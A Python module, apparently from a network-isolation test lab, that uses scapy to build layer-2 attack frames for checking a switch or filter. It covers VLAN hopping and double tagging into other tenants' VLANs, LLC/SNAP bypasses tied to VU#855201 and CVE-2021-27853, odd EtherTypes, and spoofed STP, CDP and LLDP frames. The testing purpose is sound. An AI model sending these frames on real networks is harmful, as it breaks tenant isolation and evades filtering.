"""Frames that are neither ARP nor IPv4 nor IPv6, tags, LLC, and what is for one link alone."""

from __future__ import annotations

from collections.abc import Callable, Iterator, Mapping

from scapy.layers.l2 import LLC, SNAP, STP, Dot1AD, Dot1Q, Dot3, Ether
from scapy.packet import Raw

from lab.attacks.case import Phase, Role
from lab.attacks.catalogue.draft import Attack, Draft, Packet, Send, Tag, bound
from lab.attacks.catalogue.packets import BROADCAST, ether, udp
from lab.attacks.catalogue.vantage import Vantage, vantages
from lab.attacks.ground import CABLE, NICS

ETHERTYPES: Mapping[str, int] = {
    "RARP": 0x8035, "AppleTalk": 0x809B, "IPX": 0x8137, "MPLS": 0x8847, "MPLS multicast": 0x8848,
    "PPPoE discovery": 0x8863, "PPPoE session": 0x8864, "EAPOL": 0x888E, "PROFINET": 0x8892,
    "ATA over Ethernet": 0x88A2, "EtherCAT": 0x88A4, "experimental": 0x88B5, "LLDP": 0x88CC,
    "MACsec": 0x88E5, "PTP": 0x88F7, "FCoE": 0x8906, "RoCE": 0x8915, "loopback": 0x9000,
    "batman": 0x4305, "GRE Ethernet": 0x6558, "HomePlug": 0x88E1, "slow protocols": 0x8809,
    "below 0x600": 0x05FF,
}  # fmt: skip

# Destination -> who uses it. 802.1D reserves 01:80:c2:00:00:00 to 0f for one link.
LINK_ONLY: Mapping[str, tuple[str, int]] = {
    "STP": ("01:80:c2:00:00:00", 0), "pause": ("01:80:c2:00:00:01", 0x8808),
    "LACP": ("01:80:c2:00:00:02", 0x8809), "802.1X": ("01:80:c2:00:00:03", 0x888E),
    "provider STP": ("01:80:c2:00:00:08", 0), "MVRP": ("01:80:c2:00:00:21", 0x88F5),
    "LLDP": ("01:80:c2:00:00:0e", 0x88CC), "LLDP to a customer": ("01:80:c2:00:00:00", 0x88CC),
    "CDP": ("01:00:0c:cc:cc:cc", 0x2000), "PVST+": ("01:00:0c:cc:cc:cd", 0x010B),
    "IPv4 to STP's address": ("01:80:c2:00:00:00", 0x0800),
    "IPv4 to LLDP's address": ("01:80:c2:00:00:0e", 0x0800),
    "IPv6 to 802.1X's address": ("01:80:c2:00:00:03", 0x86DD),
}  # fmt: skip

Body = Callable[[Vantage, str, Tag], Packet]
"""(attacker, destination MAC, tag) -> frame"""


def _of_type(kind: int) -> Body:
    return lambda where, to, tag: (
        Ether(src=where.mac, dst=to, type=kind) / Raw(tag.data + bytes(44))
    )


def _cases(bodies: Mapping[str, Body], family: int = 0) -> Iterator[Draft]:
    """Each to a neighbour, to the gateway and to all; the control is the same frame on a cable
    that nobody guards."""
    for where in vantages():
        neighbour = NICS[where.peer].mac
        for name, body in bodies.items():
            targets = (neighbour, where.net.mac, BROADCAST)
            sends = tuple(
                where.send(
                    bound(
                        lambda tag, body, to, where: body(where, to, tag),
                        body=body,
                        to=to,
                        where=where,
                    )
                )
                for to in targets
            )
            yield _guarded(where, name, family, sends, body, neighbour)


def _guarded(
    where: Vantage, name: str, family: int, sends: tuple[Send, ...], body: Body, to: str
) -> Draft:
    bare = Send(CABLE, lambda tag: body(where, to, tag), Phase.CONTROL, Role.CONTROL)
    return Draft(
        f"{name} from {where.name}", family, where.name, (bare, *sends), where.elsewhere,
        "the same frame arrives on a cable that nobody guards", frozenset({CABLE}),
        needs=where.needs,
    )  # fmt: skip


def _ethertypes() -> Iterator[Draft]:
    yield from _cases({name: _of_type(kind) for name, kind in ETHERTYPES.items()})


# -- tags -----------------------------------------------------------------------------------------


def _inner(where: Vantage, tag: Tag) -> Packet:
    return udp(where.ip4, NICS[where.peer].ip4, tag)


def _tagged(*tags: Packet) -> Body:
    def make(where: Vantage, to: str, tag: Tag) -> Packet:
        frame = Ether(src=where.mac, dst=to)
        for each in tags:
            frame = frame / each.copy()
        return frame / _inner(where, tag)

    return make


_TAGS: Mapping[str, Body] = {
    "priority tag (VLAN 0)": _tagged(Dot1Q(vlan=0, prio=7)),
    "another tenant's VLAN 101": _tagged(Dot1Q(vlan=101)),
    "another tenant's VLAN 103": _tagged(Dot1Q(vlan=103)),
    "VLAN 1": _tagged(Dot1Q(vlan=1)),
    "VLAN 4095": _tagged(Dot1Q(vlan=4095)),
    "two tags": _tagged(Dot1Q(vlan=101), Dot1Q(vlan=103)),
    "two priority tags": _tagged(Dot1Q(vlan=0), Dot1Q(vlan=0)),
    "802.1ad": _tagged(Dot1AD(vlan=103)),
    "802.1ad with 802.1Q inside": _tagged(Dot1AD(vlan=101), Dot1Q(vlan=103)),
    "802.1ad priority tag": _tagged(Dot1AD(vlan=0)),
    "old QinQ 0x9100": _tagged(Ether(src="02:00:00:00:00:01", dst=BROADCAST, type=0x9100)),
    "three tags": _tagged(Dot1Q(vlan=0), Dot1Q(vlan=0), Dot1Q(vlan=103)),
}


def _tags() -> Iterator[Draft]:
    for draft in _cases(_TAGS, 4):
        own = NICS[draft.attacker].net
        # A switch takes both for a plain frame of the port's own VLAN, and is right.
        same = ("priority tag (VLAN 0)", f"another tenant's VLAN {own.vlan if own else 0}")
        if draft.needs == {"vlan"} and draft.variant.startswith(same):
            continue
        yield draft


# -- LLC ------------------------------------------------------------------------------------------


def _snap(where: Vantage, tag: Tag, *, version: int = 4) -> Packet:
    peer = NICS[where.peer]
    target = peer.ip4 if version == 4 else peer.ip6
    inner = udp(where.address(version), target, tag)
    kind = 0x0800 if version == 4 else 0x86DD
    return LLC(dsap=0xAA, ssap=0xAA, ctrl=3) / SNAP(OUI=0, code=kind) / inner


def _llc(version: int, *, wrong_length: int | None = None) -> Body:
    def make(where: Vantage, to: str, tag: Tag) -> Packet:
        body = _snap(where, tag, version=version)
        length = len(bytes(body)) if wrong_length is None else wrong_length
        return Dot3(src=where.mac, dst=to, len=length) / body

    return make


def _llc_in_tag(vlan: int, *, version: int = 4, wrong_length: int | None = None) -> Body:
    """A length where the type behind the tag should be (VU#855201)."""

    def make(where: Vantage, to: str, tag: Tag) -> Packet:
        body = bytes(_snap(where, tag, version=version))
        length = len(body) if wrong_length is None else wrong_length
        return Ether(src=where.mac, dst=to) / Dot1Q(vlan=vlan, type=length) / Raw(body)

    return make


def _raw_llc(where: Vantage, to: str, tag: Tag) -> Packet:
    body = LLC(dsap=0x42, ssap=0x42, ctrl=3) / Raw(tag.data)
    return Dot3(src=where.mac, dst=to, len=len(bytes(body))) / body


_LLC: Mapping[str, Body] = {
    "SNAP with IPv4": _llc(4),
    "SNAP with IPv6": _llc(6),
    "SNAP with a wrong length": _llc(6, wrong_length=3),
    "SNAP behind VLAN 0": _llc_in_tag(0),
    "SNAP with IPv6 behind VLAN 0": _llc_in_tag(0, version=6),
    "SNAP behind VLAN 0 with a wrong length": _llc_in_tag(0, version=6, wrong_length=3),
    "SNAP behind another tenant's VLAN": _llc_in_tag(103),
    "plain LLC": _raw_llc,
}


def _llcs() -> Iterator[Draft]:
    yield from _cases(_LLC)


# -- for one link alone ---------------------------------------------------------------------------


def _link_only(name: str, kind: int) -> Body:
    def make(where: Vantage, to: str, tag: Tag) -> Packet:
        if name in ("STP", "provider STP"):
            body = LLC(dsap=0x42, ssap=0x42, ctrl=3) / STP(rootid=0, bridgeid=0) / Raw(tag.data)
            return Dot3(src=where.mac, dst=to, len=len(bytes(body))) / body
        if name in ("CDP", "PVST+"):
            body = LLC(dsap=0xAA, ssap=0xAA, ctrl=3) / SNAP(OUI=0xC, code=kind) / Raw(tag.data)
            return Dot3(src=where.mac, dst=to, len=len(bytes(body))) / body
        if kind == 0x0800:
            return ether(where.mac, to, _inner(where, tag))
        if kind == 0x86DD:
            return ether(where.mac, to, udp(where.ip6, NICS[where.peer].ip6, tag))
        return Ether(src=where.mac, dst=to, type=kind) / Raw(tag.data + bytes(44))

    return make


def _links() -> Iterator[Draft]:
    for where in vantages():
        for name, (to, kind) in LINK_ONLY.items():
            body = _link_only(name, kind)
            send = where.send(
                bound(
                    lambda tag, body, to, where: body(where, to, tag), body=body, to=to, where=where
                )
            )
            yield _guarded(where, name, 0, (send,), body, to)


ATTACKS = (
    Attack("ethertype", "speaks a protocol that nobody filters", "IEEE 802.3; RFC 7042",
           _ethertypes),
    Attack("tag", "hides a packet behind VLAN tags, or hops into another VLAN",
           "IEEE 802.1Q; CVE-2005-4440", _tags),
    Attack("llc", "hides a packet behind LLC/SNAP", "VU#855201: CVE-2021-27853, -27854, -27861, "
           "-27862", _llcs),
    Attack("link-only", "speaks to the bridge, or across it to others' bridges",
           "IEEE 802.1D 7.12.6; IEEE 802.1AB", _links),
)  # fmt: skip
